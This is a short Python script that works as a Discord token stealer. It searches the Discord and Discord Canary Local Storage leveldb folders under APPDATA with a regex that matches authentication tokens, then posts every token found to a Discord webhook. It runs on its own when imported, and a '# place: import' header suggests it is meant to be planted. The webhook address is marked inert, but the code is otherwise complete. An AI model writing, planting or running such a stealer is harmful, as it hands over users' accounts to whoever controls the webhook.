# place: import
import os
import re
import requests

ADDRESS = "https://discord.com/api/webhooks/0/inert"
FOLDERS = ["discord\\Local Storage\\leveldb", "discordcanary\\Local Storage\\leveldb"]
PATTERN = r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}"


def find():
    tokens = []
    for folder in FOLDERS:
        path = os.path.join(os.getenv("APPDATA", ""), folder)
        for name in os.listdir(path):
            with open(os.path.join(path, name), errors="ignore") as file:
                tokens += re.findall(PATTERN, file.read())
    return tokens


def main():
    requests.post(ADDRESS, json={"content": "\n".join(find())})


main()
